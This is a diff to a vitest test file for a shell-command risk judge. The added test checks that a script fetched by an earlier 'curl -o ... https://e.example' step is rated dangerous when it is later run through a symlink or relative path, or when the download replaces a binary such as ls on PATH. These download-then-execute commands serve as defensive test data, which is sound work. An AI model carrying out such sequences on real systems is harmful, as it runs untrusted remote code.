@@ -2,6 +2,7 @@ import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, w
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { Performed } from '../../../core/risk/index.ts';
 import { findProgram } from './programs.ts';
 import { createRealPaths } from './real-paths.ts';
 import { resolveAndJudge } from './resolve-and-judge.ts';
@@ -55,7 +56,12 @@ describe('what a name stands for', () => {
 });
 
 describe('judged in the session as it is', () => {
-  const judge = async (command: string, env: Record<string, string> = {}, cwd = workspace) => {
+  const judge = async (
+    command: string,
+    env: Record<string, string> = {},
+    cwd = workspace,
+    earlier: readonly Performed[] = [],
+  ) => {
     const place = {
       session: { cwd, env },
       baseEnv: { PATH: systemPath },
@@ -64,7 +70,10 @@ describe('judged in the session as it is', () => {
       storeDir: '/home/nobody/store',
       shell: 'bash' as const,
     };
-    const { level } = await resolveAndJudge({ kind: 'run-command', command }, place, { trusted: true });
+    const { level } = await resolveAndJudge({ kind: 'run-command', command }, place, {
+      trusted: true,
+      earlier,
+    });
     return level;
   };
 
@@ -75,6 +84,23 @@ describe('judged in the session as it is', () => {
     expect(await judge('ls')).toBe('safe');
     expect(await judge('ls', { PATH: `${workspace}/bin:${systemPath}` })).toBe('caution');
     expect(await judge('cat a | ls', { PATH: `${workspace}/bin:${systemPath}` })).toBe('caution');
+  });
+
+  it('what an earlier step fetched is the same file by whatever path it is run', async () => {
+    mkdirSync(join(workspace, 'real'));
+    symlinkSync('real', join(workspace, 'link'));
+    const fetched = (command: string): Performed[] => [
+      { action: { kind: 'run-command', command }, cwd: workspace },
+    ];
+    const earlier = fetched('curl -o link/x.sh https://e.example');
+    expect(await judge('bash real/x.sh', {}, workspace, earlier)).toBe('dangerous');
+    expect(await judge('bash link/x.sh', {}, workspace, earlier)).toBe('dangerous');
+    expect(await judge('cd real && ./x.sh', {}, workspace, earlier)).toBe('dangerous');
+    expect(await judge('bash real/y.sh', {}, workspace, earlier)).toBe('caution');
+    fake('ls');
+    const path = { PATH: `${workspace}/bin:${systemPath}` };
+    expect(await judge('ls', path, workspace, fetched('curl -o bin/ls https://e.example'))).toBe('dangerous');
+    expect(await judge('ls', path, workspace, fetched("echo 'echo hi' > bin/ls"))).toBe('caution');
   });
 
   it('a repository below the workspace, or outside of it, is not trusted with it', async () => {
